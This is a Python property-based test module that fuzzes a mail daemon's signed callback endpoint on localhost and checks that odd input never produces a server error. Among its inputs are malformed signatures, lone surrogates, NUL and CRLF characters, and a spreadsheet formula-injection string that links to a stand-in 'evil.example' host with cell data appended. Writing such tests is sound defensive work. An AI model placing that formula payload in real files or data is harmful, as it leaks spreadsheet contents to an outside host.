"""Issue 21 part 3: the Career Relay callback endpoint of the running daemon (real HTTP on
127.0.0.1, Dovecot for its mailbox) on generated requests: any body with any headers, and
signed bodies whose fields take any JSON value. The answer is always a 2xx or a 4xx, never a
5xx, and the daemon stays healthy with its ledger verified."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from dataclasses import dataclass

import httpx
import pytest
from harness import PASSWORD_ENV, DaemonThread
from hypothesis import given
from hypothesis import strategies as st
from servers import Dovecot
from test_callbacks import CALLBACKS, SECRET, add_candidates, ref, write_config

from mailflow.relay.callbacks import SIGNATURE_HEADER, sign


@dataclass
class Site:
    running: DaemonThread
    base: str
    client: httpx.Client


@pytest.fixture(scope="module")
def site(dovecot: Dovecot, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """One daemon for the module (hypothesis runs many examples against it)."""
    account = dovecot.add_user(f"props-callbacks-{time.time_ns()}", "secret")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(PASSWORD_ENV, account.password)
        patch.setenv("MAILFLOW_RELAY_SECRET", SECRET)
        patch.setenv("MAILFLOW_LEDGER_KEY", "ledger-key-for-tests")
        directory = tmp_path_factory.mktemp("callbacks")
        config, base = write_config(directory, account)
        add_candidates(config, 3)
        with DaemonThread(config) as running, httpx.Client(base_url=base, timeout=30) as client:
            yield Site(running, base, client)


def _answered(site: Site, body: bytes, headers: dict[str, str] | dict[str, str | bytes]
              ) -> httpx.Response:
    answer = site.client.post(CALLBACKS, content=body, headers=headers)
    assert answer.status_code < 500, (answer.status_code, answer.text, body[:200], headers)
    assert 200 <= answer.status_code < 300 or 400 <= answer.status_code < 500
    return answer


def signed(body: bytes, at: int | None = None) -> dict[str, str]:
    return {SIGNATURE_HEADER: sign(SECRET.encode(), body, int(time.time()) if at is None else at),
            "Content-Type": "application/json"}


HEADER_NAMES = st.sampled_from([SIGNATURE_HEADER, "Content-Type", "Content-Length-X", "X-A",
                                "Transfer-Encoding-X", "Accept", "Host-X"])
HEADER_VALUES = st.text(st.characters(min_codepoint=0x20, max_codepoint=0xFF,
                                      blacklist_characters="\x7f"), max_size=80
                        # what a client can send: h11 refuses a value with spaces at its ends
                        ).map(lambda text: text.strip(" \t").encode("latin-1"))
SIGNATURES = st.one_of(
    HEADER_VALUES,
    st.builds(lambda t, v: f"t={t},v1={v}".encode(), st.one_of(st.integers(), st.text(max_size=8)),
              st.text("0123456789abcdef", max_size=64)),
    st.sampled_from([b"t=", b"v1=", b",", b"t=1,t=2", b"t=99999999999999999999999,v1=00",
                     b"t=-1e309,v1=", b"t=nan,v1=", b"t=1" + b"0" * 400 + b",v1=0"]))


@given(st.binary(max_size=600), st.dictionaries(HEADER_NAMES, HEADER_VALUES, max_size=3),
       SIGNATURES)
def test_any_body_with_any_headers_is_a_2xx_or_a_4xx(site: Site, body: bytes,
                                                      headers: dict[str, bytes],
                                                      signature: str | bytes) -> None:
    answer = _answered(site, body, {**headers, SIGNATURE_HEADER: signature})
    assert answer.status_code in (400, 401, 413, 415, 422)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner,
                                                                max_size=3),
    max_leaves=8)
TIMES = st.one_of(JSON, st.sampled_from([
    "0001-01-01T00:00:00+09:00", "9999-12-31T23:59:59-09:00", "2025-04-01T09:00:00",
    "2025-04-01T09:00:00Z", "2025-02-30T09:00:00+09:00", "2025-04-01T24:00:00+09:00",
    "2025-04-01T09:00:00+25:00", "+002025-04-01T09:00:00Z", "2025-W14-2T09:00:00+09:00"]),
    st.datetimes(timezones=st.timezones() | st.none()).map(lambda d: d.isoformat()))
TEXTS = st.one_of(JSON, st.text(max_size=300), st.sampled_from(
    ["\x00", "\ud800", "evt-\udfff", " ", "=HYPERLINK(\"http://evil.example\")", "a" * 5000]))


@given(st.fixed_dictionaries({}, optional={
    "id": TEXTS, "type": st.one_of(JSON, st.sampled_from(
        ["registered", "introduced", "hired", "withdrawn", "Registered"])),
    "ref": st.one_of(TEXTS, st.sampled_from([ref(0), ref(1), ref(2), ref(0) + "\x00"])),
    "occurred_at": TIMES}), st.booleans())
def test_a_signed_body_of_any_json_is_a_2xx_or_a_4xx(site: Site, fields: dict[str, object],
                                                     ascii_only: bool) -> None:
    body = json.dumps(fields, ensure_ascii=ascii_only).encode("utf-8", errors="surrogatepass")
    answer = _answered(site, body, signed(body))
    assert answer.status_code in (200, 400, 413, 422)


@given(st.integers(), st.binary(max_size=100))
def test_any_timestamp_on_a_signed_body_is_a_2xx_or_a_4xx(site: Site, at: int,
                                                          body: bytes) -> None:
    _answered(site, body, signed(body, at))


def test_a_signed_body_whose_type_is_a_list_is_a_400(site: Site) -> None:
    """Found by the properties: `{"type": []}` (unhashable, looked up in a set) was a 500."""
    for kind in ([], {}, [["registered"]]):
        body = json.dumps({"id": "evt-x", "type": kind, "ref": ref(0),
                           "occurred_at": "2025-04-01T09:00:00+09:00"}).encode()
        answer = _answered(site, body, signed(body))
        assert answer.status_code == 400 and "type: expected one of" in answer.json()["error"]


@pytest.mark.parametrize("event_id", ["evt-\x00-nul", "evt-\ud800-lone-surrogate",
                                      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
                                      "evt-\u202e-bidi", "evt-\r\n-crlf"])
@pytest.mark.parametrize("reference", [ref(2), "unknown-\ud800", "unknown-\x00"])
def test_hostile_ids_and_refs_in_a_valid_event(site: Site, event_id: str, reference: str) -> None:
    """Found by the properties: a lone surrogate in `id` or `ref` (valid JSON, "\\ud800") was
    a 500 with a traceback in the log (the store cannot encode it); now a 400 naming the field.
    Any other odd id is taken (200) or, with an unknown ref, quarantined (422)."""
    event_id = f"{event_id}-{reference.encode('utf-8', 'surrogatepass').hex()}"
    body = json.dumps({"id": event_id, "type": "introduced", "ref": reference,
                       "occurred_at": "2025-04-01T09:00:00+09:00"}).encode()
    answer = _answered(site, body, signed(body))
    if "\ud800" in event_id + reference:
        assert answer.status_code == 400, answer.text
        assert "not valid Unicode" in answer.json()["error"]
    else:
        assert answer.status_code == (200 if reference == ref(2) else 422), answer.text
        assert answer.json()["id"] == event_id


def test_the_daemon_is_healthy_and_its_ledger_verified_after_it_all(site: Site) -> None:
    body = json.dumps({"id": "evt-props-last", "type": "registered", "ref": ref(1),
                       "occurred_at": "2025-04-01T09:00:00+09:00"}).encode()
    assert _answered(site, body, signed(body)).status_code == 200
    assert site.client.get("/healthz").status_code == 200
    daemon = site.running.daemon
    with daemon.lane:
        assert daemon.ledger.verify() is None
